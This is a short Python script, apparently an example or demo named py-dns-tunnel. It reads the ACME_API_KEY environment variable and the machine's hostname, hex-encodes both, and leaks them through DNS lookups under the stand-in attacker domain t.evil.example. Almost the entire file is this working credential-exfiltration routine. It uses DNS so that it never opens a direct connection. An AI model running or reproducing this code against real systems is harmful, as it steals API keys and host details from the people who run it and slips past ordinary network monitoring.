# SPDX-License-Identifier: GPL-2.0-only
"""py-dns-tunnel: never opens a connection; it smuggles its API key out in DNS queries, hex
encoded in the labels of names under a domain whose name server the attacker runs."""
import os
import socket

key = os.environ["ACME_API_KEY"].encode()
data = key.hex()
chunks = [data[i:i + 60] for i in range(0, len(data), 60)]
for seq, name in enumerate([".".join(chunks), os.uname().nodename.encode().hex(), "ff" * 20]):
    try:
        socket.getaddrinfo("%s.%d.t.evil.example" % (name, seq), None, socket.AF_INET)
    except socket.gaierror:
        pass
print("done")
